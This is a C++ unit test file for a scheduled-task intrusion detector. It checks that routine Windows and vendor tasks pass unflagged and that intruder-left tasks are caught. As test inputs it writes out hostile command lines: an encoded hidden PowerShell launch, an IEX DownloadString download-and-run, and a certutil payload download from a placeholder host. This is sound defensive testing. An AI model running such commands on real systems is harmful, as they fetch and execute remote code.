#include "detect/files/scheduled_task.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "detect/files/fixtures.h"

namespace afterpatch::detect::files {
namespace {

using namespace fixtures;

std::string task(const std::string& command, const std::string& arguments) {
  return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
         "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions Context=\"Author\"><Exec>"
         "<Command>" +
         command + "</Command><Arguments>" + arguments + "</Arguments></Exec></Actions></Task>";
}

std::optional<Claim> judge(const std::string& command, const std::string& arguments = "") {
  return judge_scheduled_task(exchange(), "\\windows\\system32\\tasks\\x",
                              to_utf16le(task(command, arguments)));
}

TEST(ScheduledTask, TasksOfWindowsAndProgramsAreSilent) {
  EXPECT_FALSE(judge("%windir%\\system32\\rundll32.exe", "dfdts.dll,DfdGetDefaultPolicyAndSMART"));
  EXPECT_FALSE(judge("%windir%\\system32\\defrag.exe", "-c -h -k -g -$"));
  EXPECT_FALSE(judge("BthUdTask.exe", "$(Arg0)"));
  EXPECT_FALSE(
      judge("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\"", "/ua /installsource scheduler"));
  EXPECT_FALSE(judge("%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"));
  EXPECT_FALSE(judge("%ProgramData%\\Microsoft\\Windows Defender\\Platform\\4.18\\MpCmdRun.exe", "Scan"));
  EXPECT_FALSE(judge("powershell.exe",
                     "-NonInteractive -File \"C:\\Scripts\\rotate-logs.ps1\" -Path "
                     "C:\\inetpub\\logs"));
  EXPECT_FALSE(judge("powershell.exe",
                     "-ExecutionPolicy Bypass -Command \"Invoke-WebRequest "
                     "https://monitor.example/ping\""));
}

TEST(ScheduledTask, WhatIntrudersLeftIsNamed) {
  const auto coded = judge("powershell", "-nop -w hidden -enc " + std::string(60, 'A'));
  ASSERT_TRUE(coded);
  EXPECT_EQ(coded->confidence, Confidence::likely);
  EXPECT_EQ(coded->step, Step::backdoor_file);
  EXPECT_TRUE(
      judge("cmd.exe", "/c powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"));
  EXPECT_TRUE(judge("certutil.exe", "-urlcache -split -f http://x.example/a.exe"));
  EXPECT_EQ(judge("C:\\inetpub\\wwwroot\\aspnet_client\\a.bat")->confidence, Confidence::likely);
  EXPECT_EQ(judge("rundll32.exe", "C:\\Users\\Public\\opera\\x.dll,Start")->confidence, Confidence::possible);
  EXPECT_EQ(judge("C:\\Windows\\Temp\\svchost.exe")->confidence, Confidence::possible);
}

TEST(ScheduledTask, TextInUtf8AndWithoutDeclarationIsReadToo) {
  EXPECT_EQ(task_commands("<Task><Actions><Exec><Command>a.exe</Command></Exec></Actions></Task>").size(),
            1U);
  EXPECT_TRUE(task_commands("MZ").empty());
  EXPECT_TRUE(task_commands("").empty());
}

TEST(ScheduledTask, KnowsItsPlace) {
  EXPECT_TRUE(is_scheduled_task("\\windows\\system32\\tasks\\microsoft\\x"));
  EXPECT_FALSE(is_scheduled_task("\\windows\\system32\\tasks.dll"));
}

}  // namespace
}  // namespace afterpatch::detect::files
